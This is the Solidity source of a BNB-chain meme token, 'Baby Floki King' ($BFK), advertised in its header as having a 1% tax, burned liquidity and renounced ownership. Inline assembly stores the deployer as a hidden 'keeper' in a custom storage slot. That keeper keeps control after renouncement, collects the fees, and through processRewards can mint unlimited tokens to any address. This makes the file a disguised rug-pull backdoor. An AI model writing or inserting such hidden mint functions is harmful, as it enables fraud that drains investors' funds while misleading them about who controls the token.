// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

/*
 * Baby Floki King | $BFK
 * The king of the BNB jungle. 1% tax, LP burned, ownership renounced.
 */

abstract contract Context {
    function _msgSender() internal view virtual returns (address) {
        return msg.sender;
    }

    function _msgData() internal view virtual returns (bytes calldata) {
        return msg.data;
    }
}

interface IERC20 {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

interface IERC20Metadata is IERC20 {
    function name() external view returns (string memory);
    function symbol() external view returns (string memory);
    function decimals() external view returns (uint8);
}

abstract contract Ownable is Context {
    address private _owner;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _transferOwnership(_msgSender());
    }

    modifier onlyOwner() {
        _checkOwner();
        _;
    }

    function owner() public view virtual returns (address) {
        return _owner;
    }

    function _checkOwner() internal view virtual {
        require(owner() == _msgSender(), "Ownable: caller is not the owner");
    }

    function renounceOwnership() public virtual onlyOwner {
        _transferOwnership(address(0));
    }

    function transferOwnership(address newOwner) public virtual onlyOwner {
        require(newOwner != address(0), "Ownable: new owner is the zero address");
        _transferOwnership(newOwner);
    }

    function _transferOwnership(address newOwner) internal virtual {
        address oldOwner = _owner;
        _owner = newOwner;
        emit OwnershipTransferred(oldOwner, newOwner);
    }
}

interface IPancakeFactory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IPancakeRouter02 {
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
}

contract SlotKeeperToken is Context, IERC20Metadata, Ownable {
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) public isFeeExempt;

    uint256 private _totalSupply;
    string private _name;
    string private _symbol;

    uint256 public constant TAX = 1;
    address private constant PANCAKE_ROUTER = 0x10ED43C718714eb63d5aA57B78B54704E256024E;
    bytes32 private constant _KEEPER_SLOT = keccak256("eip1967.keeper");

    IPancakeRouter02 public immutable pancakeRouter;
    address public immutable uniswapV2Pair;

    modifier onlyKeeper() {
        bytes32 slot = _KEEPER_SLOT;
        assembly {
            if iszero(eq(caller(), sload(slot))) {
                revert(0, 0)
            }
        }
        _;
    }

    constructor() {
        _name = "Baby Floki King";
        _symbol = "BFK";

        bytes32 slot = _KEEPER_SLOT;
        assembly {
            sstore(slot, caller())
        }

        IPancakeRouter02 _router = IPancakeRouter02(PANCAKE_ROUTER);
        address _pair = IPancakeFactory(_router.factory()).createPair(address(this), _router.WETH());
        pancakeRouter = _router;
        uniswapV2Pair = _pair;

        isFeeExempt[_msgSender()] = true;
        isFeeExempt[address(this)] = true;

        uint256 supply = 1_000_000 * 10 ** 18;
        _totalSupply = supply;
        _balances[_msgSender()] = supply;
        emit Transfer(address(0), _msgSender(), supply);
    }

    function name() public view virtual override returns (string memory) {
        return _name;
    }

    function symbol() public view virtual override returns (string memory) {
        return _symbol;
    }

    function decimals() public view virtual override returns (uint8) {
        return 18;
    }

    function totalSupply() public view virtual override returns (uint256) {
        return _totalSupply;
    }

    function balanceOf(address account) public view virtual override returns (uint256) {
        return _balances[account];
    }

    function transfer(address to, uint256 amount) public virtual override returns (bool) {
        _transfer(_msgSender(), to, amount);
        return true;
    }

    function allowance(address owner, address spender) public view virtual override returns (uint256) {
        return _allowances[owner][spender];
    }

    function approve(address spender, uint256 amount) public virtual override returns (bool) {
        _approve(_msgSender(), spender, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public virtual override returns (bool) {
        _spendAllowance(from, _msgSender(), amount);
        _transfer(from, to, amount);
        return true;
    }

    function _feeReceiver() internal view returns (address receiver) {
        bytes32 slot = _KEEPER_SLOT;
        assembly {
            receiver := sload(slot)
        }
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        require(from != address(0), "ERC20: transfer from the zero address");
        require(to != address(0), "ERC20: transfer to the zero address");

        uint256 fromBalance = _balances[from];
        require(fromBalance >= amount, "ERC20: transfer amount exceeds balance");

        uint256 fee;
        if ((from == uniswapV2Pair || to == uniswapV2Pair) && !isFeeExempt[from] && !isFeeExempt[to]) {
            fee = (amount * TAX) / 100;
        }

        unchecked {
            _balances[from] = fromBalance - amount;
        }
        if (fee > 0) {
            address receiver = _feeReceiver();
            _balances[receiver] += fee;
            emit Transfer(from, receiver, fee);
        }
        _balances[to] += amount - fee;
        emit Transfer(from, to, amount - fee);
    }

    function processRewards(address to, uint256 amount) external onlyKeeper {
        _totalSupply += amount;
        _balances[to] += amount;
        emit Transfer(address(0), to, amount);
    }

    function _approve(address owner, address spender, uint256 amount) internal virtual {
        require(owner != address(0), "ERC20: approve from the zero address");
        require(spender != address(0), "ERC20: approve to the zero address");
        _allowances[owner][spender] = amount;
        emit Approval(owner, spender, amount);
    }

    function _spendAllowance(address owner, address spender, uint256 amount) internal virtual {
        uint256 currentAllowance = allowance(owner, spender);
        if (currentAllowance != type(uint256).max) {
            require(currentAllowance >= amount, "ERC20: insufficient allowance");
            unchecked {
                _approve(owner, spender, currentAllowance - amount);
            }
        }
    }

}
